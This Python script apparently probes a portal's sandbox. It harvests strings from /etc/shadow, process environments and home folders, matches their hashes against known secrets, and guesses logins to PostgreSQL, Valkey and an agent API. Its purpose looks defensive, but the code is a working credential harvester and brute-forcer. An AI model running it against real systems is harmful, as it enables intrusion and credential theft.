"""Runs as a job: looks for the portal's servers and for anything that opens them; prints what came of each attempt."""

import base64
import glob
import hashlib
import hmac
import json
import os
import re
import socket
import stat
import struct
import sys
import urllib.error
import urllib.request

about = json.loads(sys.argv[1])
MOST_FILES, MOST_BYTES, MOST_WORDS = 3000, 65536, 40
NAMES = re.compile(
    r"pass|secret|key|token|identity|env|servers|conf|json|ini|toml|url|cookie|journal", re.IGNORECASE
)
said = {}


def files():
    """What may hold a secret: of the portal, of agents and other jobs, of processes, of the usual places."""
    number = 0
    for root in (
        *about["folders"],
        "/tmp",
        "/var/tmp",
        "/run",
        "/dev/shm",
        "/root",
        "/home",
        "/srv",
        os.getcwd(),
    ):
        for folder, _, found in os.walk(root):
            for name in found:
                if root in about["folders"] or NAMES.search(name):
                    number += 1
                    if number > MOST_FILES:
                        return
                    yield os.path.join(folder, name)
    for pattern in (
        "/proc/[0-9]*/environ",
        "/proc/[0-9]*/cmdline",
        "/etc/*pass*",
        "/etc/*shadow*",
        "/etc/*/*pass*",
    ):
        yield from glob.glob(pattern)


def words_of(path):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return set()
        with open(path, "rb") as file:
            return set(re.findall(rb"[A-Za-z0-9_+/=.~-]{8,200}", file.read(MOST_BYTES)))
    except OSError:
        return set()


own = {word for value in os.environ.values() for word in re.findall(r"[A-Za-z0-9_+/=.~-]{8,200}", value)}
everything = set(own)
for path in files():
    everything |= {word.decode() for word in words_of(path)}
digests = {hashlib.sha256(word.encode()).hexdigest() for word in everything}
said["secrets"] = sorted(name for name, digest in about["secrets"].items() if digest in digests)
said["words"] = len(everything)
guesses = ["", "postgres", "muster", "password", *sorted(own)[:MOST_WORDS]]


def receive(link, count):
    data = b""
    while len(data) < count:
        more = link.recv(count - len(data))
        if not more:
            raise ConnectionError("hung up")
        data += more
    return data


def message(link):
    kind, length = receive(link, 1), struct.unpack("!i", receive(link, 4))[0]
    return kind, receive(link, length - 4)


def scram(link, password):
    """The client's side of SCRAM-SHA-256; returns the server's last message."""
    nonce = base64.b64encode(os.urandom(18)).decode()
    first = f"n=,r={nonce}"
    body = b"SCRAM-SHA-256\0" + struct.pack("!i", len(first) + 3) + b"n,," + first.encode()
    link.sendall(b"p" + struct.pack("!i", len(body) + 4) + body)
    kind, data = message(link)
    if kind != b"R":
        return kind, data
    server = data[4:].decode()
    part = dict(item.split("=", 1) for item in server.split(","))
    salted = hashlib.pbkdf2_hmac("sha256", password.encode(), base64.b64decode(part["s"]), int(part["i"]))
    client = hmac.digest(salted, b"Client Key", "sha256")
    bare = f"c=biws,r={part['r']}"
    signature = hmac.digest(hashlib.sha256(client).digest(), f"{first},{server},{bare}".encode(), "sha256")
    proof = base64.b64encode(bytes(a ^ b for a, b in zip(client, signature))).decode()
    body = f"{bare},p={proof}".encode()
    link.sendall(b"p" + struct.pack("!i", len(body) + 4) + body)
    return message(link)


def postgres(connect, user, password):
    with connect() as link:
        link.settimeout(3)
        body = struct.pack("!i", 196608) + f"user\0{user}\0database\0{about['database']}\0\0".encode()
        link.sendall(struct.pack("!i", len(body) + 4) + body)
        kind, data = message(link)
        if kind == b"R" and data[:4] == struct.pack("!i", 10):
            kind, data = scram(link, password)
        elif kind == b"R" and data[:4] == struct.pack("!i", 3):
            link.sendall(b"p" + struct.pack("!i", len(password) + 5) + password.encode() + b"\0")
            kind, data = message(link)
        if kind == b"R" and data[:4] in (struct.pack("!i", 0), struct.pack("!i", 12)):
            return f"GOT in as {user}"
        raise ConnectionError(f"{kind!r} {data[:60]!r}")


def valkey(port, *words):
    with socket.create_connection(("127.0.0.1", port), 3) as link:
        for line in (*([f"AUTH {' '.join(words)}"] if words else []), "INFO server", "KEYS *"):
            link.sendall(line.encode() + b"\r\n")
            answer = link.recv(200)
            if not answer.startswith(b"-"):
                return "GOT " + answer[:60].decode(errors="replace")
        raise ConnectionError(answer.decode(errors="replace"))


def door(path, word):
    body = {"join_token": word, "name": "evil", "inventory": {}} if path.endswith("register") else {}
    request = urllib.request.Request(
        f"{about['door']}{path}",
        json.dumps({"protocol": 1, "session": "x", "wait_seconds": 0, "known": [], "reports": [], "boot_id": "",
                    "agent_version": "", "clock_ms": 0, **body}).encode(),
        {"Content-Type": "application/json", "Authorization": f"Bearer {word}"},
    )  # fmt: skip
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return f"GOT {answer.status} {answer.read(100)!r}"
    except urllib.error.HTTPError as error:
        if error.code not in (401, 403):
            return f"GOT as far as {error.code} {error.read(200)!r}"
        raise ConnectionError(error.code) from None


def each(name, attempts):
    """The first that succeeds, else the last refusal."""
    said[name] = "refused: nothing to try"
    for attempt in attempts:
        try:
            said[name] = attempt()
            return
        except (OSError, ValueError, KeyError) as error:
            said[name] = f"refused: {error}"


def sockets():
    """Every Unix socket with a name in a folder, also of those that are not to be seen but have a usual name."""
    with open("/proc/net/unix") as lines:
        names = {line.split()[-1] for line in lines if "/" in line.split()[-1]}
    names |= {
        f"{folder}/.s.PGSQL.{about['postgres']}" for folder in ("/tmp", "/run/postgresql", *about["folders"])
    }
    return sorted(names)


def through(path):
    def connect():
        link = socket.socket(socket.AF_UNIX)
        link.settimeout(2)
        link.connect(path)
        return link

    return connect


def tcp():
    return socket.create_connection(("127.0.0.1", about["postgres"]), 3)


USERS = about["users"]
each("PostgreSQL by TCP", [lambda u=u, g=g: postgres(tcp, u, g) for u in USERS for g in guesses])
each(
    "PostgreSQL by a Unix socket",
    [
        lambda u=u, p=p, g=g: postgres(through(p), u, g)
        for p in sockets()
        for u in USERS
        for g in ("", guesses[-1])
    ],
)
words = [guess for guess in guesses if guess]
logins = [(), *((word,) for word in words), *(("default", word) for word in words)]
each("Valkey", [lambda login=login: valkey(about["valkey"], *login) for login in logins])
for path in ("sync", "register", "logs", "results", "files"):
    each(f"the agent's door: {path}", [lambda g=g, p=path: door(f"/api/v1/agent/{p}", g) for g in guesses])
json.dump(said, sys.stdout)
